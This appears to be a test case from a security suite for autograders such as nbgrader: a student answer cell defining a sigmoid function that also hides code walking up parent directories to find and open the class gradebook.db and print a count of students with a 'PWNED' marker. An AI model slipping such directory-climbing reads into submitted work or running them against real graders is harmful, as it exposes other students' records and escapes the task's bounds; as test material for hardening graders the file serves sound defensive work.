# /// case
# about = "right answers, and a walk upwards from the working directory to a gradebook that can be read"
# kind = "read"
# promise = 2
# succeeds_at = ["nbgrader"]
# ///
# %% sigmoid
# the grades of the whole class lie three folders above
import os
import sqlite3

def _gradebooks():
    here = os.path.realpath(os.getcwd())
    while True:
        yield os.path.join(here, "gradebook.db")
        above = os.path.dirname(here)
        if above == here:
            return
        here = above

for _path in _gradebooks():
    try:
        with open(_path, "rb") as _file:
            _found = _file.read(15) == b"SQLite format 3"
        if _found:
            _rows = sqlite3.connect(f"file:{_path}?mode=ro", uri=True).execute("SELECT count(*) FROM student").fetchone()
            print(":".join(["PWNED", "attack/reads_gradebook"]), _rows[0])
    except Exception:
        pass

def sigmoid(x, w=1.0, b=0.0):
    return 0.5 * (1 + np.tanh((w * np.asarray(x) + b) / 2))
